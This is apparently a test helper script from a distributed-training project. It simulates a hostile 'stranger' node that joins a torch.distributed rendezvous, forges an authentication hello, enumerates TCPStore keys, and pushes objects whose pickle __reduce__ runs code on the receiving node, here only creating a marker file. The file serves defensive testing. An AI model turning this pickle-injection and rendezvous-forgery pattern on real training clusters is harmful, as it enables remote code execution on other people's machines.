"""A stranger that knows only node 0's address and port, and this project's source: it joins node 0's
rendezvous as node 1 with plain torch.distributed, beats like a node, and passes every object collective it can
an object whose unpickling creates a marker file (code run in node 0).

    python tests/training/stranger_node.py PORT MARKER [--forge-proof] [--list-keys]

--forge-proof first writes a hello as node 1, well formed and signed with another secret, and prints "forged a
hello". --list-keys (issue 38) reads the store's keys (TCPStore.list_keys) until the run's own appear, and
joins through a PrefixStore at their common prefix, beating at every heartbeat-looking key it saw. It prints
what it reached; tests kill it when they are done."""

from __future__ import annotations

import json
import os
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from training.distributed.env import NodeEnv  # after the path: the run's format, as anyone can read it
from training.distributed.secret import _seal_json


class Marker:
    """Unpickling this opens (creates) the marker file: what an attacker's `os.system` would be."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def beat(store: dist.Store, keys: list[str]) -> None:
    while True:
        for key in keys:
            store.add(key, 1)
        time.sleep(0.5)


def forge(store: dist.Store, port: int) -> None:
    """Node 1's hello, in the run's format, signed with a secret that is not the run's."""
    store.wait(["auth/challenge"], timedelta(seconds=60))
    challenge = json.loads(store.get("auth/challenge"))["challenge"]
    key = f"auth/1/hello/{store.add('auth/1/hellos', 1)}"
    env = NodeEnv(1, 2, "127.0.0.1", port)
    store.set(key, _seal_json(b"not the run's secret, but long", env, key,
                              {"challenge": challenge, "nonce": os.urandom(32).hex()}))


def run_prefix(store: dist.TCPStore) -> str:
    """The common prefix of the run's keys (not the handshake's), once some are in the store."""
    while True:
        keys = [key for key in store.list_keys() if "/auth/" not in f"/{key}"]
        if keys:
            common = os.path.commonprefix(keys)
            return common[:common.rfind("/") + 1]
        time.sleep(0.05)


def main(port: int, marker: str, forged: bool, listing: bool) -> None:
    store = dist.TCPStore("127.0.0.1", port, 2, False, timeout=timedelta(seconds=60), wait_for_workers=not listing)
    print("connected", flush=True)
    if forged:
        forge(store, port)
        print("forged a hello", flush=True)
    beats = ["gpuctl/beat/1"]
    # Beats on a connection of their own, as a node's: one TCPStore client serves one call at a time, and
    # init_process_group's wait below would hold back every beat until node 0 gave up waiting for them.
    beat_store = dist.TCPStore("127.0.0.1", port, 2, False, timeout=timedelta(seconds=60), wait_for_workers=False)
    if listing:
        prefix = run_prefix(store)
        beats += [key for key in store.list_keys() if "beat" in key]
        print(f"listed the keys: joining under {prefix!r}", flush=True)
        store, beat_store = dist.PrefixStore(prefix, store), dist.PrefixStore(prefix, beat_store)
    threading.Thread(target=beat, args=(beat_store, beats), daemon=True).start()
    dist.init_process_group("gloo", store=store, rank=1, world_size=2, timeout=timedelta(seconds=60))
    # Said at once: node 0 accepted this peer. Whatever this node sends next can end node 0 (a collective of
    # another shape), and the test may stop this process before a later line is written.
    print("in the process group", flush=True)
    dist.new_group(backend="gloo")
    dist.barrier()
    evil = Marker(marker)
    calls = [lambda: dist.all_gather_object([None, None], evil),
             lambda: dist.broadcast_object_list([evil], src=1),
             lambda: dist.gather_object(evil, None, dst=0),
             lambda: dist.scatter_object_list([None], [evil, evil], src=1)]
    for call in calls:
        try:
            call()
            print("sent", flush=True)
        except Exception as err:  # noqa: BLE001 - node 0 hung up: try the next
            print(f"refused: {type(err).__name__}", flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], "--forge-proof" in sys.argv[3:], "--list-keys" in sys.argv[3:])
